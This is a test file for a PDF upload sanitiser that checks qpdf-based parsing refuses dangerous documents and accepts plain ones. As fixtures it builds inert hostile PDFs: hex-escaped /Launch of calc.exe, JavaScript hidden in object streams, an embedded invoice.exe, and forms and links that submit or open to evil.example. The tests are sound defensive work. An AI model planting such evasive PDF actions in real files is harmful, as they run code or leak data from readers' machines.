import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { onePage, pdfBytes, pdfOf } from '../testing/upload-files.ts'
import { fileKind } from './file-kind.ts'
import { CHECKERS, MAX_WAITING, safePdf } from './pdf-safety.ts'
import { openQpdf } from './qpdf.ts'

/** What a byte-grepping filter would see. */
const latin1 = (bytes: Uint8Array) => Buffer.from(bytes).toString('latin1')

const stream = (dictionary: string, data: string) =>
  `<< ${dictionary} /Length ${data.length} >>\nstream\n${data}\nendstream`

/** A page of text, as a real tool writes it; more objects may follow from number 6. */
const textPage = (catalog = '', ...more: string[]) =>
  pdfOf(
    onePage(
      catalog,
      '/Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R',
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      stream('', 'BT /F1 12 Tf 20 100 Td (Endcap sampling: 50 stores) Tj ET'),
      ...more,
    ),
  )

/** The file as qpdf writes it with its objects packed into compressed object streams. */
async function withObjectStreams(bytes: Uint8Array): Promise<Uint8Array> {
  const qpdf = await openQpdf()
  qpdf.write('/in.pdf', bytes)
  expect(qpdf.run(['--object-streams=generate', '/in.pdf', '/out.pdf'])).toBe(0)
  return qpdf.read('/out.pdf')
}

/** A page whose one link runs the given action. */
const linkDoing = (action: string) =>
  pdfOf(
    onePage('', `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << ${action} >> >>]`),
  )

/** A page with an annotation of the given entries. */
const annotated = (annotation: string) =>
  pdfOf(onePage('', `/Annots [<< /Type /Annot /Rect [0 0 99 99] ${annotation} >>]`))

const documentScript = (name: string) =>
  textPage(
    `/Names << /${name} 6 0 R >>`,
    '<< /Names [(x) 7 0 R] >>',
    `<< /S /${name} /JS (app.alert(1)) >>`,
  )

const hostile: Record<string, () => Promise<Uint8Array> | Uint8Array> = {
  'a document-level script named /J#61vaScript': () => documentScript('J#61vaScript'),
  'a link that launches a program, /L#61unch': () => linkDoing('/S /L#61unch /F (calc.exe)'),
  'a lower-case escaped launch, /L#61u#6ech': () => linkDoing('/S /L#61u#6ech /F (calc.exe)'),
  'JavaScript inside a compressed /ObjStm': async () => {
    const bytes = await withObjectStreams(documentScript('JavaScript'))
    expect(latin1(bytes)).not.toContain('JavaScript')
    return bytes
  },
  'an /OpenAction /URI': () => pdfBytes('/OpenAction << /S /URI /URI (https://evil.example/) >> '),
  'an /OpenAction that runs JavaScript': () =>
    pdfBytes('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (1) >> >> '),
  'an embedded file, in an object stream': () =>
    withObjectStreams(
      textPage(
        '/Names << /EmbeddedFiles 6 0 R >>',
        '<< /Names [(invoice.exe) 7 0 R] >>',
        '<< /Type /Filespec /F (invoice.exe) /EF << /F 8 0 R >> >>',
        stream('/Type /EmbeddedFile', 'MZ evil'),
      ),
    ),
  'a page that acts when opened, /AA': () =>
    pdfOf(onePage('', '/AA << /O << /S /JavaScript /JS (1) >> >>')),
  'a form that submits itself, /SubmitForm': () =>
    annotated('/Subtype /Widget /A << /S /SubmitForm /F (https://evil.example/) >>'),
  'a form that imports data, /ImportData': () =>
    annotated('/Subtype /Widget /A << /S /ImportData /F (data.fdf) >>'),
  'an XFA form': () =>
    pdfOf(onePage('/AcroForm << /Fields [] /XFA 4 0 R >>', '', stream('', '<xdp:xdp/>'))),
  'a link into another file, /GoToR': () => linkDoing('/S /GoToR /F (other.pdf) /D [0 /Fit]'),
  'a link into an embedded file, /GoToE': () => linkDoing('/S /GoToE /D [0 /Fit] /T << /R /C >>'),
  'a movie that plays, /Movie': () => annotated('/Subtype /Movie /Movie << /F (clip.mov) >>'),
  'a sound that plays, /Sound': () => linkDoing('/S /Sound /Sound 4 0 R'),
  'a rendition of media, /Rendition': () => linkDoing('/S /Rendition /OP 0'),
  'rich media, /RichMedia': () => annotated('/Subtype /RichMedia /RichMediaContent << >>'),
  'a file specification on the web, /FS /URL': () =>
    linkDoing(
      '/S /GoTo /D [3 0 R /Fit] /Next << /S /Thread /F << /FS /URL /F (https://evil.example/x) >> >>',
    ),
  'an object stream hidden from the parser, /#4fbjStm': () =>
    pdfOf(onePage('/Extra 4 0 R', '', stream('/Type /#4fbjStm /N 0 /First 0', ''))),
  'an encrypted document': () =>
    pdfOf(
      onePage(),
      '/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>',
    ),
}

const plain: Record<string, () => Promise<Uint8Array> | Uint8Array> = {
  'a hand-written one-page file': () => pdfBytes(),
  'a page of text with object streams': () => withObjectStreams(textPage()),
  'a page of text without object streams': () => textPage(),
  'a page linking within the document (/GoTo)': () => linkDoing('/S /GoTo /D [3 0 R /Fit]'),
  'a document that opens at its first page (/OpenAction)': () =>
    pdfBytes('/OpenAction [3 0 R /Fit] '),
  'a document of 20,000 small compressed streams, within its time limit': () => {
    const text = 'BT /F1 12 Tf 20 100 Td (Endcap sampling: 50 stores) Tj ET '.repeat(20)
    const data = deflateSync(Buffer.from(text)).toString('latin1')
    const packed = stream('/Filter /FlateDecode', data)
    return pdfOf(onePage('', '', ...Array(20_000).fill(packed)))
  },
}

/** The number of pages qpdf finds in the file, or null when it cannot read it. */
async function pageCount(bytes: Uint8Array): Promise<number | null> {
  const qpdf = await openQpdf()
  qpdf.write('/kept.pdf', bytes)
  if (qpdf.run(['--show-npages', '/kept.pdf']) !== 0) return null
  return Number(qpdf.messages.at(-1))
}

describe('PDF uploads, parsed by qpdf in a worker thread', () => {
  it.each(Object.keys(hostile))('refuses %s', async (name) => {
    const bytes = await (hostile[name] as () => Promise<Uint8Array>)()
    expect(fileKind(bytes)).toBe('pdf')
    expect(await safePdf(bytes)).toEqual({ ok: false, reason: 'format' })
  })

  it.each(Object.keys(plain))('accepts %s, rewritten so it still opens', async (name) => {
    const bytes = await (plain[name] as () => Promise<Uint8Array>)()
    expect(fileKind(bytes)).toBe('pdf')
    const verdict = await safePdf(bytes)
    if (!verdict.ok) throw new Error(`refused: ${verdict.reason}`)
    expect(await pageCount(verdict.pdf)).toBe(1)
    expect(fileKind(verdict.pdf)).toBe('pdf')
    expect(latin1(verdict.pdf)).not.toContain('/ObjStm')
  })

  it('refuses what does not parse', async () => {
    const bytes = Buffer.from('%PDF-1.4\nnot a document\n%%EOF\n', 'latin1')
    expect(await safePdf(bytes)).toEqual({ ok: false, reason: 'format' })
  })

  it('refuses as busy a check past those waiting, unchecked, and checks the rest', async () => {
    const waiting = Array.from({ length: CHECKERS + MAX_WAITING }, () => safePdf(pdfBytes()))
    expect(await safePdf(pdfBytes())).toEqual({ ok: false, reason: 'busy' })
    for (const verdict of await Promise.all(waiting)) expect(verdict.ok).toBe(true)
    expect((await safePdf(pdfBytes())).ok).toBe(true)
  })
})
